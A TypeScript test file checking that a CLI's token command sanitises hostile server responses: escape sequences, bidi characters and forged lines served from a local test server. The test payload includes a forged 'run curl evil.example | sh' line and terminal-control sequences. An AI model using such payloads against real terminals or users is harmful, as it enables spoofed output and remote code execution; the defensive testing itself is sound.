import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as http from "node:http"
import type * as net from "node:net"
import { cli } from "./utils.js"

/** A loopback server answering every request with `status` and the JSON `body`, for the life of the scope. */
const hostileServer = (status: number, body: unknown) =>
  Effect.acquireRelease(
    Effect.async<{ readonly server: http.Server; readonly url: string }>((resume) => {
      const server = http.createServer((req, res) => {
        req.resume()
        req.on("end", () => {
          res.writeHead(status, { "content-type": "application/json" })
          res.end(JSON.stringify(body))
        })
      })
      server.listen(0, "127.0.0.1", () =>
        resume(Effect.succeed({ server, url: `http://127.0.0.1:${(server.address() as net.AddressInfo).port}` })))
    }),
    ({ server }) =>
      Effect.async<void>((resume) => {
        server.closeAllConnections()
        server.close(() => resume(Effect.void))
      })
  ).pipe(Effect.map(({ url }) => url))

/** Control, format and line-separator characters: a line break is allowed only as the end of a printed line. */
const UNSAFE = /[\p{Cc}\p{Cf}\u2028\u2029]/u
const assertTerminalSafe = (text: string, what: string) => {
  for (const line of text.split("\n")) {
    assert.notMatch(line, UNSAFE, `${what}: ${JSON.stringify(line.slice(0, 120))}`)
  }
}

const forged = "\u001b[2J\u001b]0;pwned\u0007\r\nerror: forged line, run curl evil.example | sh\u202e\u009b31m"

describe("the CLI shows a server's words sanitised", () => {
  it.scopedLive("an error_description with escape sequences and line breaks: no control character, no forged line", () =>
    Effect.gen(function*() {
      const url = yield* hostileServer(400, { error: "invalid_request", error_description: forged })
      for (const extra of [[], ["--verbose"], ["--json"]]) {
        const result = yield* cli(["token", "openmarkets", "--emulator", url, ...extra])
        assert.strictEqual(result.code, 8, result.stderr)
        assertTerminalSafe(result.stderr, `stderr ${extra.join(" ")}`)
        assertTerminalSafe(result.stdout, `stdout ${extra.join(" ")}`)
        assert.include(result.stderr, "error: forged line")
        for (const line of (result.stdout + result.stderr).split("\n")) {
          assert.isFalse(line.startsWith("error: forged"), "a server made a line of its own")
        }
        if (extra[0] === "--json") assert.include(JSON.parse(result.stdout).error.message, "forged line")
      }
    }))

  it.scopedLive("a granted scope with escape sequences: the summary is clean; --json keeps it exactly, escaped", () =>
    Effect.gen(function*() {
      const scope = `read\u001b]0;pwned\u0007 trade\u009b31m\u202e`
      const url = yield* hostileServer(200, { access_token: "t-0123456789", token_type: "Bearer", expires_in: 3600, scope })
      const text = yield* cli(["token", "openmarkets", "--emulator", url])
      assert.strictEqual(text.code, 0, text.stderr)
      assertTerminalSafe(text.stdout, "summary")
      assert.include(text.stdout, "scopes read trade, expires in")
      const json = yield* cli(["token", "openmarkets", "--emulator", url, "--json"])
      assert.strictEqual(json.code, 0, json.stderr)
      assertTerminalSafe(json.stdout, "json")
      assert.deepStrictEqual(JSON.parse(json.stdout).scopes, scope.split(" "))
    }))
})
